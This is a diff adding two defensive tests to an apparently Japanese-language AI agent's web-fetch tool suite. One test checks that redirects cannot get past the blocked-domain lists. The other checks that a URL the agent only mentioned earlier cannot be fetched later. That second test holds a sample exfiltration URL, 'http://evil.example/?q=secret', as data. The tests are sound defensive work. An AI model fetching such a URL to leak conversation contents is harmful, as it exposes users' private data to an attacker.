@@ -194,6 +194,32 @@ def test_a_page_that_gives_orders_comes_to_nothing(web, claude):
     assert dialled == set(web.addresses("shop.example"))
 
 
+def test_a_redirect_does_not_lead_past_the_domain_lists(web, claude, tmp_path):
+    """A3: every hop is asked about, and what the cache kept of it too."""
+    web.redirect("http://short.example/x", SHOP)
+    read = call("fetch_url", {"url": "http://short.example/x"})
+
+    def told(asked):
+        assert json.loads(asked.tool_results[0]["content"])["error"] == "domain_blocked"
+        return say("読めませんでした。")
+
+    claude.script(read, told, read, say("読めました。"), read, told)
+    for blocked in (["shop.example"], [], ["shop.example"]):
+        answer = _ask(
+            web, claude, "http://short.example/x は？", agent_blocked_domains=blocked, cache=tmp_path
+        )
+        assert (messages_ja.note(AgentCode.DOMAIN_BLOCKED) in answer.undone) is bool(blocked)
+
+
+def test_what_an_answer_only_showed_may_not_be_fetched_later(web, claude):
+    """A thread cannot be leaked in two turns."""
+    leak = "http://evil.example/?q=secret"
+    claude.script(call("fetch_url", {"url": leak}), say("はい。"))
+    history = [Turn(author="", text=f"`{leak}` は読んでいません。", ours=True)]
+    _ask(web, claude, "続けて", history=history)
+    assert "url_not_in_context" in claude.requests[1].text
+
+
 def test_a_follow_up_is_answered_from_the_cache(web, claude, tmp_path):
     read = call("fetch_url", {"url": SHOP})
     claude.script(read, say("千二百円です。"), read, say("深煎りです。"))
